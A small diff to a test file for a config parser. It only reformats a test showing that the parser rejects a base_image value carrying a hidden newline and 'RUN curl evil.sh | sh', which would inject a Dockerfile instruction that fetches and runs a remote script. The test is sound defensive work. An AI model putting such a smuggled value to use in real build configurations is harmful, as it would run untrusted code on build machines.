@@ -90,7 +90,9 @@ describe('parseConfigText', () => {
   })
 
   it('refuses values that would inject a Dockerfile instruction', () => {
-    const problems = problemsOf(`${minimal}build:\n  base_image: "node:20\\nRUN curl evil.sh | sh"\n  env:\n    "A B": x\n`)
+    const problems = problemsOf(
+      `${minimal}build:\n  base_image: "node:20\\nRUN curl evil.sh | sh"\n  env:\n    "A B": x\n`,
+    )
     expect(problems.map((p) => p.keyPath)).toEqual(['build.base_image', 'build.env.A B'])
   })
 
